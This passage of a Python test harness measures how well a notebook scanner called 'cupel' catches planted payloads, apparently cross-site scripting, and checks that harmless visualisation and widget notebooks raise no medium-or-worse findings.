PROGRESS = "Epoch 1:  10%|#         | 1/10 [00:01<00:09,  1.0it/s]\rEpoch 1: 100%|##########| 10/10 [00:10<00:00,  1.0it/s]\n\x1b[32mdone\x1b[0m\n"

HARMLESS = {
    "styler": notebook([output("text/html", STYLER)]), "data frame": notebook([output("text/html", FRAME)]), "Colab table": notebook([output("text/html", COLAB)]),
    "plotly": notebook([output("text/html", PLOTLY)]), "plotly with require": notebook([output("text/html", PLOTLY_REQUIRE)]), "bokeh": notebook([output("text/html", BOKEH)]),
    "bokeh script": notebook([output("application/javascript", BOKEH_SCRIPT), output("application/vnd.bokehjs_load.v0+json", ""), output("application/vnd.bokehjs_exec.v0+json", "")]),
    "folium": notebook([output("text/html", FOLIUM)]), "older folium": notebook([output("text/html", FOLIUM_OLD)]), "altair": notebook([output("text/html", VEGA)]),
    "animation": notebook([output("text/html", ANIMATION)]), "graphviz": notebook([output("image/svg+xml", GRAPHVIZ)]), "mermaid": notebook([output("image/svg+xml", MERMAID)]),
    "scikit-learn": notebook([output("text/html", SKLEARN)]), "video": notebook([output("text/html", VIDEO)]), "page of this machine": notebook([output("text/html", LOCAL)]),
    "widget": widget(WIDGET), "document": notebook([cell("markdown", BADGE)]),
    "progress": notebook([{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "x", "outputs": [{"output_type": "stream", "name": "stderr", "text": PROGRESS}]}]),
}


def place_of(text, payload):
    """Byte range of the payload in the file, as JSON writes it: whole, in lines, or in the two parts of an output widget."""
    for parts in ([payload], payload.splitlines(keepends=True), [payload[:3], payload[3:]]):
        needles = [json.dumps(part, ensure_ascii=False)[1:-1].encode() for part in parts]
        at = text.find(needles[0])
        end = at
        for needle in needles:
            end = text.find(needle, end) + len(needle) if end >= 0 and text.find(needle, end) >= 0 else -1
        if at >= 0 and end >= 0:
            return at, end
    raise ValueError(payload)


def touches(finding, start, end):
    places = [finding["location"]] + [row["location"] for row in finding["evidence"] if row.get("location")]
    return any(place["start"] < end and start < place["end"] for place in places)


def scan(cupel, folder):
    text = subprocess.run([cupel, "scan", folder, "-f", "json", "-q"], stdout=subprocess.PIPE, check=False).stdout
    found = collections.defaultdict(list)
    for finding in json.loads(text)["findings"]:
        found[os.path.basename(finding["artifact"])].append(finding)
    return found


def write(folder, name, document):
    data = json.dumps(document, ensure_ascii=False, indent=1).encode()
    with open(os.path.join(folder, name), "wb") as stream:
        stream.write(data)
    return data


def run(cupel, folder, show):
    payloads = list(plants())
    places = []
    for number, (_, _, text, document, _) in enumerate(payloads):
        places.append(place_of(write(folder, f"p{number:05d}.ipynb", document), text))
    for name, document in HARMLESS.items():
        write(folder, f"h {name}.ipynb", document)
    found = scan(cupel, folder)
    caught = collections.Counter()
    total = collections.Counter()
    for number, (carrier, family, text, _, rules) in enumerate(payloads):
        wanted = {"CUP-OUT-" + rule for rule in rules}
        good = any(f["rule"] in wanted and touches(f, *places[number]) for f in found[f"p{number:05d}.ipynb"])
        total[carrier] += 1
        caught[carrier] += good
        if not good and show:
            rest = sorted({f["rule"] for f in found[f"p{number:05d}.ipynb"]})
            print(f"missed  {carrier}, {family}: {text!r} ({', '.join(rest) or 'nothing'})")
    loud = []
    for name in HARMLESS:
        for finding in found[f"h {name}.ipynb"]:
            if finding["severity"] in ("medium", "high", "critical"):
                loud.append(f"{name}: {finding['rule']} {finding['severity']}: {finding['message']}")
    for carrier, count in total.items():
        print(f"{carrier:20} {caught[carrier]:5} of {count:5}")
    distinct = len({text for _, _, text, _, _ in payloads})
    print(f"{distinct} payloads in {len(total)} places: {sum(caught.values())} of {sum(total.values())} found")
    print(f"{len(HARMLESS)} harmless notebooks: {len(loud)} findings of medium or worse")
    for line in loud:
        print("  " + line)
    return 0 if sum(caught.values()) == sum(total.values()) and not loud else 1


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("cupel")
    parser.add_argument("--missed", action="store_true", help="print every payload that was not found")
    parser.add_argument("--keep", metavar="FOLDER", help="write the notebooks here and leave them")
    arguments = parser.parse_args()
    if arguments.keep:
        os.makedirs(arguments.keep, exist_ok=True)
        return run(arguments.cupel, arguments.keep, arguments.missed)
    with tempfile.TemporaryDirectory(prefix="cupel-xss-") as folder:
        return run(arguments.cupel, folder, arguments.missed)


if __name__ == "__main__":
    sys.exit(main())
